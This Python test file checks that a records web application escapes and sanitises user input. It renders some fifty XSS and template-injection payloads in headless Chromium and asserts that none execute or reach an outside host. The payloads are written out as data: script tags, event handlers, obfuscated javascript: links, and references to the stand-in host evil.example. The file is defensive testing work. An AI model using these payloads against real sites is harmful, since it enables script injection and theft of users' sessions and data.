"""A broad XSS payload list, typed into every field, rendered in real headless Chromium.

Nothing may run: no dialog, no console marker, no global set, no request leaving the server,
no refresh or redirect, no dangerous element or attribute in the DOM - with the page's CSP on
and with it bypassed (then what is tested is the escaping and sanitising alone). Jinja syntax
shows literally. Marked ``browser``; skipped when Chromium is missing.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from evidence import accounts
from learning.services import Evidence, initialise
from tests.builders import record_data
from tests.web_helpers import PASSWORD, make_app, served

CHROMIUM = shutil.which("chromium") or (
    "/usr/bin/chromium" if Path("/usr/bin/chromium").exists() else None
)
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync"]  # fmt: skip
MARK = "XSSMARK"
RUN = f"alert('{MARK}');console.log('{MARK}');window.__xss=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f'<img src=x onerror="{RUN}">',
    '<img src="https://evil.example/pixel.png">',
    f'<body onload="{RUN}">',
    f'<div onmouseover="{RUN}" style="position:fixed;inset:0">cover</div>',
    f'<details open ontoggle="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<svg onload="{RUN}"></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/b)}</style>",
    '<form action="https://evil.example/"><button>Continue</button></form>',
    f"[click me](javascript:{RUN})",
    f"[click me](JaVaScRiPt:{RUN})",
    f"[click me](  javascript:{RUN})",
    f"[click me](java&#x09;script:{RUN})",
    f"[click me](&#106;avascript:{RUN})",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![image](javascript:{RUN})",
    "![image](https://evil.example/tracker.png)",
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f"[ref link][r]\n\n[r]: javascript:{RUN}",
    f'<a href="javascript:{RUN}">plain html link</a>',
    f'<a href="&#x6A;avascript:{RUN}">entity link</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    f'"><script>{RUN}</script>',
    f'\'><img src=x onerror="{RUN}">',
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<!--<script>{RUN}</script>-->",
    "{{ 7*7 }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{{ config }} {{ self.__init__.__globals__ }}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<scr\u0130pt>{RUN}</scr\u0130pt>",
    f"\u202e<script>{RUN}</script>",
    f'<img src=x onerror\u200b="{RUN}">',
    f'<a href="java\u0000script:{RUN}">nul link</a>',
    f"`<script>{RUN}</script>` and ```\n<script>{RUN}</script>\n```",
    f'<noscript><p title="</noscript><img src=x onerror="{RUN}">">',
]


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """A data dir full of payloads, served by waitress on 127.0.0.1."""

    data_dir = tmp_path_factory.mktemp("xss") / "instance"
    initialise(data_dir)
    body = "\n\n".join(PAYLOADS)
    with Evidence(data_dir) as ev:
        for role in ("admin", "editor", "viewer"):
            accounts.add_user(ev.store, role, role, PASSWORD)
        public = ev.create(
            {
                "type": "test_of_change",
                "title": f"Payload record {PAYLOADS[0]} {{{{ 7*7 }}}}",
                "date": "2025-02-02",
                "consent": "public",
                "indicators": ["SO2.1"],
                "tags": PAYLOADS[:5],
                "quotes": PAYLOADS,
                "body": body,
                "fields": {"status": "testing", "change": body, "learning": body},
            },
            "test",
        )
        ev.update(public.id, {**public.to_dict(), "body": body + "\n\nEdited {{ 7*7 }}"}, "test")
        anonymised = ev.create(
            record_data(
                title=f'Named payloads <img src=x onerror="{RUN}"> Sarah',
                consent="anonymised",
                indicators=["SO2.1"],
                people=[f'<img src=x onerror="{RUN}">', "Sarah <script>x</script> Kerr"],
                quotes=[f'<img src=x onerror="{RUN}"> said {PAYLOADS[0]}'],
                body=f'Sarah <script>x</script> Kerr and <img src=x onerror="{RUN}"> met.',
            ),
            "test",
        )
        jinja = ev.create(
            record_data(
                title="Jinja {{ 7*7 }} title",
                consent="public",
                people=[],
                quotes=["{{ 7*7 }} {% if true %}quoted{% endif %}"],
                body="Body {{ 7*7 }}\n\n{% for x in range(3) %}loop{% endfor %}\n\n{{ config }}",
            ),
            "test",
        )
        update = ev.learning_update("2025-01-01", "2025-12-31", "external", save=True, actor="t")
        ids = {"public": public.id, "anonymised": anonymised.id, "update": update.record.id,
               "jinja": jinja.id}  # fmt: skip
    with served(make_app(data_dir)) as base:
        yield base, ids


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield chromium
        chromium.close()


DOM_PROBLEMS = """() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      const v = a.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
      if (a.name.startsWith('on')) bad.push(el.tagName + ' ' + a.name);
      if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(a.name)
          && (v.startsWith('javascript:') || v.startsWith('vbscript:')
              || (v.startsWith('data:') && el.tagName !== 'IMG')))
        bad.push(el.tagName + ' ' + a.name + '=' + a.value);
    }
  }
  for (const s of document.querySelectorAll('script')) {
    if (!s.src || !s.src.startsWith(location.origin + '/')) bad.push('SCRIPT ' + (s.src || s.text.slice(0, 60)));
  }
  for (const sel of ['iframe', 'object', 'embed', 'base', 'meta[http-equiv]', 'main math',
                     'main form[action^="http"]', 'main link', 'main style', 'main input[autofocus]'])
    if (document.querySelector(sel)) bad.push(sel);
  // The learning-update document draws its own chart as SVG; a page has no SVG in main.
  if (!location.pathname.startsWith('/api/') && document.querySelector('main svg')) bad.push('main svg');
  for (const s of document.querySelectorAll('svg script, svg foreignObject, svg use, svg a'))
    bad.push('SVG ' + s.tagName);
  if (window.__xss) bad.push('window.__xss set');
  return bad;
}"""


def visit_all(browser, base: str, role: str, paths: list[str], bypass_csp: bool) -> list[str]:
    context = browser.new_context(bypass_csp=bypass_csp)
    problems: list[str] = []
    outside: list[str] = []

    def route(r) -> None:
        if r.request.url.startswith(base + "/"):
            r.continue_()
        else:
            outside.append(r.request.url)
            r.abort()

    context.route("**/*", route)
    page = context.new_page()
    page.on("dialog", lambda d: (problems.append(f"dialog: {d.message}"), d.dismiss()))
    page.on("console", lambda m: problems.append(f"console: {m.text}")
            if MARK in m.text or "Content Security Policy" in m.text else None)  # fmt: skip
    page.on("pageerror", lambda e: problems.append(f"pageerror: {e}"))
    page.goto(f"{base}/login")
    page.fill("#name", role)
    page.fill("#password", PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(f"{base}/")
    for path in paths:
        page.goto(base + path)
        page.wait_for_load_state("load")
        page.wait_for_timeout(150)  # time for a meta refresh or a late handler to fire
        landing = "/" if path.startswith("/login") else path.split("?")[0]  # logged in already
        if not page.url.startswith(base + landing):
            problems.append(f"{path}: navigated away to {page.url}")
        problems += [f"{path}: {p}" for p in page.evaluate(DOM_PROBLEMS)]
        for link in page.locator("main a, main area").all():
            href = (link.get_attribute("href") or "").replace("\x00", "").strip().lower()
            if href.startswith(("javascript:", "vbscript:", "data:")):
                problems.append(f"{path}: link {href[:60]}")
    context.close()
    return problems + [f"request left the site: {u}" for u in outside]


pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        CHROMIUM is None, reason="Chromium is not installed (apt-get install chromium)"
    ),
]


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["csp", "no-csp"])
def test_no_payload_runs_anywhere(site, browser, bypass_csp) -> None:
    base, ids = site
    viewer = [
        f"/records/{ids['public']}",
        f"/records/{ids['anonymised']}",
        f"/records/{ids['update']}",
        "/records",
        "/records?type=test_of_change",
        "/search?q=payload",
        "/search?q=" + "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "/search?q=%7B%7B%207*7%20%7D%7D",
        f"/records/{ids['jinja']}",
        "/indicators/SO2.1",
        "/learning-updates",
        "/",
        "/login?next=javascript:alert(1)",
    ]
    editor = [
        f"/records/{ids['public']}/edit",
        f"/records/{ids['public']}/history",
        f"/records/{ids['anonymised']}/edit",
    ]
    problems = visit_all(browser, base, "viewer", viewer, bypass_csp)
    problems += visit_all(browser, base, "editor", editor, bypass_csp)
    assert not problems, "\n".join(problems[:40])


def test_the_learning_update_document_runs_nothing(site, browser) -> None:
    base, ids = site
    problems = visit_all(
        browser, base, "viewer", [f"/api/learning-updates/{ids['update']}?format=html"], True
    )
    assert not problems, "\n".join(problems[:40])


def test_jinja_syntax_shows_literally(site, browser) -> None:
    base, ids = site
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{base}/login")
    page.fill("#name", "viewer")
    page.fill("#password", PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(f"{base}/")
    page.goto(f"{base}/records/{ids['jinja']}")
    text = page.inner_text("main")
    for literal in (
        "Jinja {{ 7*7 }} title",
        "{{ 7*7 }} {% if true %}quoted{% endif %}",
        "Body {{ 7*7 }}",
        "{% for x in range(3) %}loop{% endfor %}",
        "{{ config }}",
    ):
        assert literal in text, literal
    assert "Jinja 49" not in text and "looploop" not in text and "<Config" not in text
    assert "{{ 7*7 }}" in page.title()
    page.goto(f"{base}/search?q=%7B%7B%207*7%20%7D%7D")
    assert page.locator("input[name=q]").first.input_value() == "{{ 7*7 }}"
    context.close()


def test_a_payload_as_a_login_name_runs_nothing_in_the_audit_log(site, browser) -> None:
    base, _ = site
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{base}/login")
    page.fill("#name", f'<img src=x onerror="{RUN}">')
    page.fill("#password", "wrong password")
    page.get_by_role("button", name="Log in").click()
    context.close()
    problems = visit_all(browser, base, "admin", ["/admin/audit", "/admin/users"], True)
    assert not problems, "\n".join(problems[:40])
